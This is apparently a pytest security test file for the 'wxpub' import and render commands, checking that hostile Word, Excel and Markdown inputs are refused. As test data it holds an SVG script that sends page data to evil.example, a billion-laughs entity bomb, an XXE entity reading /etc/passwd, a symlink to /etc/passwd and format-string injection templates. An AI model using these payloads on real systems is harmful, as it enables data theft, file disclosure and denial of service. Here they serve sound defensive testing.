"""Hostile source files and options, through the real `wxpub` command: each one is refused with a
Chinese error naming the file and what is wrong (exit 2, nothing stored), or — for what is only a
loss, not a danger — imported with a visible warning."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from PIL import Image as PILImage
from sqlalchemy import func, select

from wxpub.models import Case, MediaFile, Release

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_PAGE = ROOT / "tests" / "fixtures" / "import" / "binhai-2023-renwen-page-part1.txt"
ARTICLES = ROOT / "articles"

SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
       b'<script>fetch("/api/v1/cases").then(r=>r.text()).then(t=>navigator.sendBeacon('
       b'"http://evil.example/",t))</script></svg>')
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def png_bytes(color=(200, 30, 30)) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", (4, 3), color).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", (8, 8), (10, 120, 200)).save(buffer, "JPEG")
    return buffer.getvalue()


def word_with_picture() -> bytes:
    """A one-case .docx made with python-docx, with one embedded PNG after the second paragraph."""
    from docx import Document
    from docx.shared import Inches

    document = Document()
    document.add_paragraph("推行“一企一证”改革 准入准营一次办结")
    document.add_paragraph("报送单位：区市场监管局")
    document.add_paragraph("为破解企业“准入不准营”难题，区市场监管局推行“一企一证”改革。")
    document.add_paragraph().add_run().add_picture(io.BytesIO(png_bytes()), width=Inches(1))
    document.add_paragraph("改革以来，企业平均办证时间压缩至三个工作日以内。")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, edit) -> bytes:
    """The package with ``edit(name, bytes) -> bytes | None`` applied to every member (None drops it)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            changed = edit(info.filename, source.read(info.filename))
            if changed is not None:
                target.writestr(info.filename, changed)
    return out.getvalue()


def hostile_word(payload: bytes, declared: str) -> bytes:
    """The picture replaced by ``payload`` and the .png extension declared as ``declared``."""
    def edit(name, data):
        if name == "word/media/image1.png":
            return payload
        if name == "[Content_Types].xml":
            return data.replace(b'Extension="png" ContentType="image/png"',
                                f'Extension="png" ContentType="{declared}"'.encode())
        return data
    return rezip(word_with_picture(), edit)


def count(runtime, model) -> int:
    with runtime.db.session() as s:
        return s.scalar(select(func.count()).select_from(model))


def assert_chinese(text: str) -> None:
    assert re.search("[\u4e00-\u9fff]", text), text


def assert_no_traceback(result) -> None:
    assert "Traceback" not in result.output and "Error:" not in result.output


@pytest.fixture
def test_series(runtime):
    """The series the Word tests import into (created first, as staff would)."""
    from library_helpers import make_series as make_library_series
    return make_library_series(runtime, "测试系列", ["市场环境"])


# --- 1. a Word picture that is really SVG / HTML ------------------------------------------------

@pytest.mark.parametrize("payload,declared", [(SVG, "image/svg+xml"), (HTML, "text/html"),
                                              (SVG, "image/png")])
def test_word_picture_that_is_not_an_image_is_refused(cli, runtime, tmp_path, payload, declared, test_series):
    source = tmp_path / "案例.docx"
    source.write_bytes(hostile_word(payload, declared))
    result = cli("import", str(source), "--series", "测试系列", "--chapter", "市场环境")
    assert result.exit_code == 2, result.output
    assert str(source) in result.stderr and "image1.png" in result.stderr
    assert "PNG" in result.stderr and "JPEG" in result.stderr
    assert_chinese(result.stderr)
    assert count(runtime, Case) == 0 and count(runtime, MediaFile) == 0


def test_word_picture_keeps_the_type_its_bytes_prove(cli, runtime, tmp_path, test_series):
    # A JPEG saved under image1.png and declared image/png: taken, as what it really is.
    source = tmp_path / "案例.docx"
    source.write_bytes(hostile_word(jpeg_bytes(), "image/png"))
    assert cli("import", str(source), "--series", "测试系列", "--chapter", "市场环境").exit_code == 0
    with runtime.db.session() as s:
        (blob,) = s.scalars(select(MediaFile))
        assert blob.content_type == "image/jpeg"


def test_markdown_image_with_a_png_signature_but_html_inside_is_refused(cli, runtime, tmp_path):
    series = make_series(tmp_path / "series")
    (series / "1-shichang" / "images" / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n" + HTML)
    result = cli("import", str(series))
    assert result.exit_code == 2
    assert "01-a.md" in result.stderr and "images/a.png" in result.stderr and "PNG" in result.stderr
    assert count(runtime, Case) == 0 and count(runtime, MediaFile) == 0


# --- 14. linked pictures and symlinks --------------------------------------------------------------

def linked_word() -> bytes:
    """The picture turned into a link to a file on the author's disk (Word's "link to file")."""
    def edit(name, data):
        if name == "word/document.xml":
            return re.sub(rb'r:embed="rId\d+"', b'r:link="rIdLinked"', data)
        if name == "word/_rels/document.xml.rels":
            data = re.sub(rb'<Relationship [^>]*Target="media/image1.png"[^>]*/>', b"", data)
            return data.replace(b"</Relationships>", (
                b'<Relationship Id="rIdLinked" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/image" Target="file:///C:/Users/zhang/Pictures/flow.png" '
                b'TargetMode="External"/></Relationships>'))
        if name == "word/media/image1.png":
            return None
        return data
    return rezip(word_with_picture(), edit)


def test_linked_word_picture_is_imported_with_a_warning(cli, runtime, tmp_path, test_series):
    source = tmp_path / "链接图片.docx"
    source.write_bytes(linked_word())
    result = cli("import", str(source), "--series", "测试系列", "--chapter", "市场环境")
    assert result.exit_code == 0, result.output
    assert "警告" in result.stderr and str(source) in result.stderr
    assert "链接" in result.stderr and "flow.png" in result.stderr and "第3段之后" in result.stderr
    data = json.loads(cli("import", str(source), "--series", "测试系列", "--chapter", "市场环境", "--json").stdout)
    (warning,) = data["warnings"]
    assert warning["file"] == str(source) and "未导入" in warning["message"]
    assert data["cases"][0]["images"] == []


def make_series(folder: Path) -> Path:
    """A minimal content-as-files series: one chapter, one case with one image."""
    chapter = folder / "1-shichang"
    (chapter / "images").mkdir(parents=True)
    (folder / "series.yaml").write_text("title: 测试系列\n", encoding="utf-8")
    (chapter / "chapter.md").write_text("---\nchapter: 市场环境\norder: 1\n---\n\n导语。\n", encoding="utf-8")
    (chapter / "01-a.md").write_text(
        "---\nnumber: 1\ntitle: 推行“一企一证”改革\nunit: 区市场监管局\n---\n\n"
        "导语段落。\n\n![流程图](images/a.png)\n\n结尾段落。\n", encoding="utf-8")
    (chapter / "images" / "a.png").write_bytes(png_bytes())
    return folder


def test_symlinked_image_pointing_outside_the_series_is_refused(cli, runtime, tmp_path, sample_series):
    series = make_series(tmp_path / "series")
    outside = tmp_path / "elsewhere" / "secret.png"
    outside.parent.mkdir()
    outside.write_bytes(png_bytes((1, 2, 3)))  # a real image: only where it lives is wrong
    image = series / "1-shichang" / "images" / "a.png"
    image.unlink()
    os.symlink(outside, image)
    result = cli("import", str(series))
    assert result.exit_code == 2, result.output
    assert "images/a.png" in result.stderr and "符号链接" in result.stderr
    assert_chinese(result.stderr)
    assert count(runtime, Case) == 0 and count(runtime, MediaFile) == 0

    page = tmp_path / "good.txt"
    shutil.copy(SAMPLE_PAGE, page)
    kept = cli("import", str(series), str(page), "--keep-going")
    assert kept.exit_code == 3 and "已跳过" in kept.stderr and "images/a.png" in kept.stderr
    assert count(runtime, Case) == 5 and count(runtime, MediaFile) == 0


def test_symlink_to_a_system_file_is_refused_as_a_symlink(cli, runtime, tmp_path):
    series = make_series(tmp_path / "series")
    image = series / "1-shichang" / "images" / "a.png"
    image.unlink()
    os.symlink("/etc/passwd", image)
    result = cli("import", str(series / "1-shichang" / "01-a.md"))
    assert result.exit_code == 2 and "符号链接" in result.stderr and "/etc/passwd" not in result.stdout


def test_symlink_inside_the_series_folder_still_works(cli, runtime, tmp_path):
    series = make_series(tmp_path / "series")
    image = series / "1-shichang" / "images" / "a.png"
    image.rename(series / "shared.png")
    os.symlink(series / "shared.png", image)
    assert cli("import", str(series)).exit_code == 0
    assert count(runtime, MediaFile) == 1


# --- 13. damaged and entity-laden XML in .xlsx / .docx ------------------------------------------

def workbook() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "案例"
    sheet.append(["序号", "标题", "正文"])
    for n in range(1, 40):
        sheet.append([n, f"案例标题{n}", f"第{n}个案例的正文内容，介绍做法和成效。" * 3])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def truncated_sheet() -> bytes:
    return rezip(workbook(), lambda name, data: data[: len(data) // 2]
                 if name == "xl/worksheets/sheet1.xml" else data)


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>")
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def with_doctype(data: bytes, member: str, doctype: bytes, reference: bytes) -> bytes:
    """``doctype`` inserted before the root element of ``member``; ``reference`` used in its first text."""
    def edit(name, content):
        if name != member:
            return content
        head, root = content.split(b"?>", 1) if content.startswith(b"<?xml") else (b"", content)
        content = (head + b"?>" if head else b"") + doctype + root
        return content.replace(b"<w:t>", b"<w:t>" + reference, 1)
    return rezip(data, edit)


def inline_sheet_with(doctype: bytes, reference: bytes) -> bytes:
    """A workbook whose sheet XML (inline strings) carries ``doctype`` and uses ``reference``."""
    sheet = (b'<?xml version="1.0" encoding="UTF-8"?>' + doctype +
             b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             b'<row r="1"><c r="A1" t="inlineStr"><is><t>\xe6\xa0\x87\xe9\xa2\x98</t></is></c>'
             b'<c r="B1" t="inlineStr"><is><t>\xe6\xad\xa3\xe6\x96\x87</t></is></c></row>'
             b'<row r="2"><c r="A2" t="inlineStr"><is><t>\xe6\xa1\x88\xe4\xbe\x8b</t></is></c>'
             b'<c r="B2" t="inlineStr"><is><t>' + reference + b'</t></is></c></row></sheetData></worksheet>')
    return rezip(workbook(), lambda name, data: sheet if name == "xl/worksheets/sheet1.xml" else data)


def test_truncated_worksheet_is_a_clean_error_and_keep_going_goes_on(cli, runtime, tmp_path, sample_series):
    bad = tmp_path / "案例表.xlsx"
    bad.write_bytes(truncated_sheet())
    good = tmp_path / "good.txt"
    shutil.copy(SAMPLE_PAGE, good)
    result = cli("import", str(bad), str(good))
    assert result.exit_code == 2, result.output
    assert str(bad) in result.stderr and "损坏" in result.stderr and "工作表“案例”" in result.stderr
    assert_no_traceback(result)
    assert count(runtime, Case) == 0

    kept = cli("import", str(bad), str(good), "--keep-going")
    assert kept.exit_code == 3
    assert f"已跳过：{bad}" in kept.stderr
    assert count(runtime, Case) == 5


@pytest.mark.parametrize("doctype,reference", [(LAUGHS, b"&lol9;"), (XXE, b"&xxe;")])
def test_entity_declarations_in_a_worksheet_are_refused_unexpanded(cli, runtime, tmp_path, doctype, reference):
    bad = tmp_path / "实体.xlsx"
    bad.write_bytes(inline_sheet_with(doctype, reference))
    result = cli("import", str(bad), "--json")
    assert result.exit_code == 2, result.output
    assert str(bad) in result.stderr and "xl/worksheets/sheet1.xml" in result.stderr
    assert "DTD" in result.stderr or "实体" in result.stderr
    assert "lollol" not in result.output and "root:" not in result.output
    assert count(runtime, Case) == 0


@pytest.mark.parametrize("filename,data,member", [
    ("工作簿.xlsx", lambda: workbook(), "xl/workbook.xml"),
    ("正文.docx", lambda: word_with_picture(), "word/document.xml"),
])
def test_entity_declarations_are_refused_in_any_part(cli, runtime, tmp_path, filename, data, member):
    bad = tmp_path / filename
    bad.write_bytes(with_doctype(data(), member, LAUGHS, b"&lol9;"))
    result = cli("import", str(bad))
    assert result.exit_code == 2, result.output
    assert member in result.stderr and str(bad) in result.stderr
    assert "lollol" not in result.output
    assert count(runtime, Case) == 0


# --- 14. title templates ----------------------------------------------------------------------------

def plan_file(tmp_path, template: str) -> Path:
    path = tmp_path / "plan.yaml"
    path.write_text("series: 2023年度滨海新区优化营商环境创新实践案例展示\naccount: 新政服\nmode: publish\n"
                    "start: 2099-12-03T09:00\ninterval: 7d\n"
                    f"title_template: \"{template}\"\nchapters:\n  - 市场环境\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("template,named", [
    ("{chapter:>20000000}", "{chapter:>20000000}"),
    ("{chapter!r}篇", "{chapter!r}"),
    ("{chapter.__class__}", "{chapter.__class__}"),
    ("{series[0]}", "{series[0]}"),
    ("{}篇", "{}"),
    ("{chapter}篇（{n}）", "{n}"),
])
def test_plan_title_template_is_checked_where_it_is_read(cli, runtime, tmp_path, template, named):
    cli("import", str(ARTICLES))
    plan = plan_file(tmp_path, template)
    for command in ("show", "apply"):
        result = cli("plan", command, str(plan))
        assert result.exit_code == 2, result.output[:500]
        assert len(result.output) < 5000  # not 20 MB of padding
        assert f"{plan}:6:" in result.stderr and named in result.stderr
        assert_chinese(result.stderr)
    assert count(runtime, Release) == 0


@pytest.mark.parametrize("template,named", [("{foo}", "{foo}"), ("{chapter:>20000000}", "{chapter:>20000000}"),
                                            ("{chapter!s}", "{chapter!s}"), ("{chapter", "花括号")])
def test_render_title_template_option_is_checked(cli, runtime, tmp_path, template, named):
    cli("import", str(ARTICLES))
    out = tmp_path / "out"
    result = cli("render", "--chapter", "人文环境", "--title-template", template, "--out", str(out))
    assert result.exit_code == 2, result.output[:500]
    assert named in result.stderr and "--title-template" in result.stderr
    assert_chinese(result.stderr)
    assert not out.exists()


def test_render_title_template_with_the_documented_fields_works(cli, runtime, tmp_path):
    cli("import", str(ARTICLES))
    out = tmp_path / "out"
    result = cli("render", "--chapter", "人文环境", "--title-template", "{series}：{chapter}篇{part}",
                 "--out", str(out))
    assert result.exit_code == 0, result.output
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert "人文环境篇" in manifest["articles"][0]["title"] and "{" not in manifest["articles"][0]["title"]


def test_symlinked_folder_pointing_outside_the_series_is_named(cli, runtime, tmp_path):
    series = make_series(tmp_path / "series")
    images = series / "1-shichang" / "images"
    shutil.move(images, tmp_path / "elsewhere")
    os.symlink(tmp_path / "elsewhere", images)
    result = cli("import", str(series))
    assert result.exit_code == 2 and "1-shichang/images" in result.stderr and "符号链接" in result.stderr
    assert count(runtime, MediaFile) == 0


def test_a_folder_import_does_not_follow_a_link_out_of_the_folder(cli, runtime, tmp_path, sample_series):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(SAMPLE_PAGE, inbox / "page.txt")
    os.symlink(SAMPLE_PAGE, inbox / "link.txt")  # the same page, but it lives outside the folder
    result = cli("import", str(inbox), "--keep-going")
    assert result.exit_code == 3
    assert f"已跳过：{inbox / 'link.txt'}" in result.stderr and "符号链接" in result.stderr
    assert count(runtime, Case) == 5
